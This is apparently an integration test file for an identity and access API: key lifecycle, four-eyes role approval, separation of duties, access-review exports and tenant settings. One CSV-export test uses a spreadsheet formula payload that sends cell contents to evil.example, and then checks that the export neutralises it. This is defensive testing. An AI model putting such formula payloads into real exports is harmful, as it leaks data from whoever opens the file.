import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROLE_PERMISSIONS } from '../../../src/identity/permissions.ts';
import { type IdentityStack, identityStack } from '../../support/identity-stack.ts';

let stack: IdentityStack;
let admin: string;
beforeAll(async () => {
  stack = await identityStack();
  await stack.settled();
  admin = await stack.person('admin');
});
afterAll(() => stack?.close());

const me = (bearer: string) => stack.call('GET', '/api/identity/me', bearer);
const ask = (body: object, bearer = admin) => stack.call('POST', '/api/identity/keys', bearer, body);
const issue = async (body: object) => stack.approved(await ask(body));
const TOO_LATE = { timeout: 5_000, interval: 200 };

describe('a key', () => {
  it('is shown once, works when another person has approved it, and lets in as its roles say', async () => {
    const asked = await ask({ name: 'Shop', roles: ['sales'] });
    const { status, body } = asked;
    expect([status, body.projected]).toEqual([202, true]);
    expect((await me(body.data.key)).status).toBe(401);
    await stack.approved(asked);
    expect(body.data.key).toMatch(/^llk_[a-z0-9]{12}_[\w-]{43}$/);
    const { body: who } = await me(body.data.key);
    expect(who.data).toMatchObject({
      tenantId: stack.tenants.own,
      who: { kind: 'key', id: body.data.id },
      roles: ['sales'],
    });
    const listed = await stack.call('GET', '/api/identity/keys', admin);
    const row = listed.body.data.find(({ id }: { id: string }) => id === body.data.id);
    expect(row).toMatchObject({
      name: 'Shop',
      prefix: body.data.grant.prefix,
      createdBy: { kind: 'user', id: 'oidc:admin' },
    });
    expect(JSON.stringify(listed.body)).not.toContain(body.data.key.slice(-43));
  });

  it('is not shown again to a repetition', async () => {
    const headers = { 'idempotency-key': 'issue-once' };
    const send = () => stack.call('POST', '/api/identity/keys', admin, { name: 'Once', roles: ['consumer'] }, headers);
    const [first, again] = [await send(), await send()];
    expect([first.body.data.id, first.body.data.key]).toEqual([again.body.data.id, expect.any(String)]);
    expect([again.status, again.body.data.key]).toEqual([202, null]);
  });

  it('is held to its scopes', async () => {
    const { body } = await issue({ name: 'Narrow', roles: ['sales'], scopes: ['account.read'] });
    expect((await me(body.data.key)).body.data.permissions).toEqual(['account.read', 'identity.read']);
  });

  it('lets nobody in within seconds of its revocation', async () => {
    const { body } = await issue({ name: 'Lost', roles: ['sales'] });
    expect((await me(body.data.key)).status).toBe(200);
    const revoked = await stack.call('POST', `/api/identity/keys/${body.data.id}/revoke`, admin, { reason: 'Lost' });
    expect(revoked.body.data).toMatchObject({ status: 'revoked', key: null });
    await expect.poll(async () => (await me(body.data.key)).status, TOO_LATE).toBe(401);
  });

  it('gets a new secret while the old one works on, or at once when it has leaked', async () => {
    const { body } = await issue({ name: 'Turned', roles: ['sales'] });
    const rotate = async (overlapSeconds: number) => {
      const path = `/api/identity/keys/${body.data.id}/rotate`;
      const asked = await stack.call('POST', path, admin, { overlapSeconds });
      expect([asked.status, (await me(asked.body.data.key)).status]).toEqual([202, 401]);
      return stack.approved(asked);
    };
    const second = (await rotate(3_600)).body.data.key;
    expect([(await me(second)).status, (await me(body.data.key)).status]).toEqual([200, 200]);
    const third = (await rotate(0)).body.data.key;
    expect((await me(third)).status).toBe(200);
    await expect.poll(async () => (await me(second)).status, TOO_LATE).toBe(401);
    await expect.poll(async () => (await me(body.data.key)).status, TOO_LATE).toBe(401);
  });

  it('says when it was last used, some seconds late', async () => {
    const { id, text } = await stack.key(['consumer']);
    await me(text);
    const usedAt = async () =>
      (await stack.call('GET', '/api/identity/keys', admin)).body.data.find((row: { id: string }) => row.id === id)
        .lastUsedAt;
    await expect.poll(usedAt, { timeout: 10_000, interval: 500 }).toEqual(expect.any(String));
  });

  it('approves nothing', async () => {
    expect((await ask({ name: 'Yes', roles: ['approver'] })).body.error.code).toBe('API_KEY_CANNOT_APPROVE');
  });
});

describe('roles', () => {
  const change = (verb: '' | '/revoke', id: string, role: string, bearer = admin) =>
    stack.call('POST', `/api/identity/role-assignments${verb}`, bearer, {
      principal: { kind: 'user', id },
      role,
      reason: 'Test',
    });

  it('are granted to others only', async () => {
    const { status, body } = await change('', 'oidc:admin', 'operator');
    expect([status, body.error.code]).toEqual([403, 'ROLE_SELF_GRANT']);
  });

  it('take effect, and end, within seconds', async () => {
    const ben = await stack.provider.token({ sub: 'ben', tenant: stack.tenants.own });
    const accounts = async () => (await stack.call('GET', '/api/accounts', ben)).status;
    expect(await accounts()).toBe(403);
    const asked = await change('', 'oidc:ben', 'sales');
    expect([asked.status, asked.body.data.status]).toEqual([202, 'open']);
    expect(asked.body.data.grant).toMatchObject({ kind: 'role', before: [], after: ['sales'] });
    await stack.approved(asked);
    await expect.poll(accounts, TOO_LATE).toBe(200);
    expect((await change('', 'oidc:ben', 'finance')).body.error.code).toBe('DUTIES_NOT_APART');
    await change('/revoke', 'oidc:ben', 'sales');
    await expect.poll(accounts, TOO_LATE).toBe(403);
  });

  it('hold in a tenant what it has set, recorded with before and after, but never what must stay apart', async () => {
    const put = (role: string, permissions: string[]) =>
      stack.call('PUT', `/api/identity/roles/${role}`, admin, { permissions, reason: 'Less is more' });
    expect((await put('consumer', ['account.read'])).status).toBe(200);
    const { text } = await stack.key(['consumer']);
    const held = async () => (await me(text)).body.data.permissions;
    await expect.poll(held, TOO_LATE).toEqual(['account.read', 'identity.read']);
    expect((await put('admin', ['identity.manage', 'identity.review'])).body.error.code).toBe('ROLE_OF_YOUR_OWN');
    expect((await put('sales', ['contract.amend', 'invoice.finalise'])).body.error.code).toBe('DUTIES_NOT_APART');
    expect((await put('auditor', ['account.write'])).body.error.code).toBe('DUTIES_NOT_APART');
    expect((await put('finance', ['account.fly'])).status).toBe(400);
    const roles = (await stack.call('GET', '/api/identity/roles', admin)).body.data;
    expect(roles.find(({ role }: { role: string }) => role === 'consumer').changed).toMatchObject({
      by: { kind: 'user', id: 'oidc:admin' },
      reason: 'Less is more',
    });
  });

  it('that grow are asked for, and take effect when another person has approved it', async () => {
    const put = (permissions: string[]) =>
      stack.call('PUT', '/api/identity/roles/operator', admin, { permissions, reason: 'Hooks, too' });
    expect((await put(['queue.read'])).status).toBe(200);
    const asked = await put(['queue.read', 'tenant.manage']);
    expect([asked.status, asked.body.data.grant.before]).toEqual([202, ['queue.read']]);
    const held = async () => {
      const roles = (await stack.call('GET', '/api/identity/roles', admin)).body.data;
      return roles.find(({ role }: { role: string }) => role === 'operator');
    };
    expect((await held()).permissions).toEqual(['queue.read']);
    await stack.approved(asked);
    expect(await held()).toMatchObject({
      permissions: ['queue.read', 'tenant.manage'],
      changed: { by: { id: 'oidc:admin' }, approvedBy: { id: 'oidc:second-admin' } },
    });
    expect((await put([...ROLE_PERMISSIONS.operator])).status).toBe(200); // nothing more that nobody gives alone
  });

  it('are listed for review: who may do what, since when, granted by whom', async () => {
    const { body } = await stack.call('GET', '/api/identity/access-review', await stack.person('auditor'));
    const entry = body.data.identities.find(({ who }: { who: { id: string } }) => who.id === 'oidc:finance');
    expect(entry).toMatchObject({
      status: 'active',
      roles: [{ role: 'finance', grantedBy: { kind: 'system', id: 'test' }, reason: 'Test' }],
    });
    expect(entry.permissions).toContain('invoice.finalise');
  });
});

describe('the review as a file', () => {
  const path = '/api/identity/access-review.csv';
  const fileFor = async (bearer: string) => stack.call('GET', path, bearer);
  const recordsOf = (text: string): string[][] =>
    parse(text, { bom: true, relax_column_count: true, skip_empty_lines: true });

  it('has a row for each role of everybody, says what it is, and holds no formula', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1)';
    const { id } = (await issue({ name: formula, roles: ['consumer'] })).body.data;
    const { status, body, headers } = await fileFor(await stack.person('auditor'));
    expect([status, headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8; header=present']);
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="access-review-\d{4}-\d\d-\d\d\.csv"$/);
    const records = recordsOf(body);
    const end = records.findIndex(([name]) => name === 'report');
    const [header, ...rows] = records.slice(0, end);
    expect(header?.slice(0, 5)).toEqual(['kind', 'identity', 'name', 'status', 'role']);
    expect(rows.filter(([, identity]) => identity === 'oidc:finance')).toEqual([
      expect.arrayContaining(['user', 'oidc:finance', 'active', 'finance', 'system test', 'Test']),
    ]);
    const key = rows.find(([, identity]) => identity === id);
    expect(key).toEqual(
      expect.arrayContaining([`'${formula}`, 'user oidc:admin', 'user oidc:second-admin', `Issued as ${formula}`]),
    );
    expect(records.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    const about = Object.fromEntries(records.slice(end));
    expect(about).toMatchObject({
      report: 'Access review',
      parameters: 'none: all identities',
      build: 'test',
      requester: 'user oidc:auditor',
      position: expect.stringMatching(/^\d+$/),
      rows: String(rows.length),
    });
    const hashed = body.slice(0, body.lastIndexOf('"sha256"'));
    expect(about.sha256).toBe(
      createHash('sha256')
        .update(`\uFEFF${hashed.replace(/^\uFEFF/, '')}`)
        .digest('hex'),
    );
  });

  it('is for those who may export, and only together with the review', async () => {
    const refused = async (bearer: string) => (await fileFor(bearer)).body.error.details.permission;
    expect(await refused(admin)).toBe('audit.export');
    const { text } = await stack.key(['auditor']);
    expect((await fileFor(text)).status).toBe(200);
    const head = await stack.call('HEAD', path, text);
    expect([head.status, head.body]).toEqual([200, '']);
    const scoped = await issue({ name: 'Files', roles: ['auditor'], scopes: ['audit.export'] });
    expect(await refused(scoped.body.data.key)).toBe('identity.review');
  });
});

describe('a request for power', () => {
  const decide = (id: string, verb: string, bearer: string) =>
    stack.call('POST', `/api/identity/requests/${id}/${verb}`, bearer, { reason: 'Because' });
  const grant = (id: string) =>
    stack.call('POST', '/api/identity/role-assignments', admin, {
      principal: { kind: 'user', id },
      role: 'finance',
      reason: 'Joins accounting',
    });

  it('is not approved by who has asked, by a key, or by who may not manage identities', async () => {
    const { id } = (await grant('oidc:dora')).body.data;
    expect((await decide(id, 'approve', admin)).body.error.code).toBe('APPROVAL_OF_YOUR_OWN');
    const { text } = await stack.key(['admin']);
    expect((await decide(id, 'approve', text)).body.error.code).toBe('APPROVAL_BY_MACHINE');
    expect((await decide(id, 'approve', await stack.person('finance'))).body.error.code).toBe('FORBIDDEN');
    const stranger = await stack.person('admin', stack.tenants.other);
    expect((await decide(id, 'approve', stranger)).body.error.code).toBe('GRANT_REQUEST_NOT_FOUND');
    const review = await stack.call('GET', '/api/identity/access-review', admin);
    expect(review.body.data.fourEyes).toBe(true);
    expect(review.body.data.openRequests).toContainEqual(
      expect.objectContaining({ id, requestedBy: { kind: 'user', id: 'oidc:admin' }, decision: null }),
    );
    expect(JSON.stringify(review.body)).not.toContain('hash');
    expect((await decide(id, 'withdraw', admin)).body.data.status).toBe('withdrawn');
    const listed = await stack.call('GET', '/api/identity/requests?status=withdrawn', admin);
    expect(listed.body.data).toContainEqual(
      expect.objectContaining({ id, decision: expect.objectContaining({ by: { kind: 'user', id: 'oidc:admin' } }) }),
    );
    expect((await stack.call('GET', '/api/identity/requests?status=expired', admin)).body.data).toEqual([]);
  });

  it('that is rejected gives nothing', async () => {
    const { id } = (await grant('oidc:emil')).body.data;
    const second = await stack.provider.token({ sub: 'second-admin', tenant: stack.tenants.own });
    expect((await decide(id, 'reject', second)).body.data.status).toBe('rejected');
    expect((await decide(id, 'approve', second)).body.error.code).toBe('GRANT_REQUEST_CLOSED');
    const assignments = await stack.call('GET', '/api/identity/role-assignments', admin);
    expect(JSON.stringify(assignments.body)).not.toContain('oidc:emil');
    expect((await stack.call('GET', `/api/identity/requests/${id}`, admin)).body.data.status).toBe('rejected');
  });

  it('names both people in the review once it is approved', async () => {
    await stack.approved(await grant('oidc:fred'));
    const { body } = await stack.call('GET', '/api/identity/access-review', admin);
    const entry = body.data.identities.find(({ who }: { who: { id: string } }) => who.id === 'oidc:fred');
    expect(entry.roles).toMatchObject([
      { role: 'finance', grantedBy: { id: 'oidc:admin' }, approvedBy: { id: 'oidc:second-admin' } },
    ]);
  });
});

describe('settings of a tenant', () => {
  const other = () => stack.person('admin', stack.tenants.other);
  const read = async () => (await stack.call('GET', '/api/tenant', await other())).body.data;

  it('are changed with before and after', async () => {
    const body = { name: 'Other SE', accountTreeDepthMax: 14, reason: 'A new form' };
    const changed = await stack.call('PATCH', '/api/tenant', await other(), body);
    expect([changed.status, changed.body.data]).toEqual([
      200,
      { id: stack.tenants.other, name: 'Other SE', accountTreeDepthMax: 14, fourEyes: true },
    ]);
    expect(await read()).toMatchObject({
      name: 'Other SE',
      accountTreeDepthMax: 14,
      changes: [
        { setting: 'accountTreeDepthMax', before: 10, after: 14, changedBy: { id: 'oidc:admin' } },
        { setting: 'name', before: 'Other', after: 'Other SE', reason: 'A new form' },
      ],
    });
    expect((await stack.call('PATCH', '/api/tenant', await other(), { ...body, accountTreeDepthMax: 0 })).status).toBe(
      400,
    );
  });

  it('give up four eyes with four eyes, and take them back with two', async () => {
    const set = async (on: boolean) =>
      stack.call('POST', '/api/tenant/change-four-eyes', await other(), { on, reason: 'A change of heart' });
    const asked = await set(false);
    expect([asked.status, (await read()).fourEyes]).toEqual([202, true]);
    await stack.approved(asked, stack.tenants.other);
    expect((await read()).fourEyes).toBe(false);
    expect((await read()).changes[0]).toMatchObject({ after: false, approvedBy: { id: 'oidc:second-admin' } });
    const key = await ask({ name: 'Alone', roles: ['consumer'] }, await other());
    expect(key.status).toBe(201);
    expect((await set(true)).body.data.fourEyes).toBe(true);
  });
});

describe('a tenant', () => {
  it('is provisioned, suspended and resumed by operators of the default tenant, who cannot suspend their own', async () => {
    const operator = await stack.person('operator');
    const firstAdmin = { kind: 'user', id: 'oidc:founder' };
    const made = await stack.call('POST', '/api/tenants', operator, { name: 'New', firstAdmin });
    const { id } = made.body.data;
    const founder = await stack.provider.token({ sub: 'founder', tenant: id });
    const keys = async () => (await stack.call('GET', '/api/identity/keys', founder)).body;
    await expect.poll(async () => (await keys()).data, TOO_LATE).toEqual([]);
    const set = (tenantId: string, verb: string) =>
      stack.call('POST', `/api/tenants/${tenantId}/${verb}`, operator, { reason: 'Unpaid' });
    expect((await set(id, 'suspend')).body.data.status).toBe('suspended');
    await expect.poll(async () => (await keys()).error?.code, TOO_LATE).toBe('TENANT_SUSPENDED');
    expect((await set(id, 'resume')).body.data.status).toBe('active');
    await expect.poll(async () => (await keys()).data, TOO_LATE).toEqual([]);
    expect((await set(stack.tenants.own, 'suspend')).body.error.code).toBe('TENANT_OF_YOUR_OWN');
  });
});
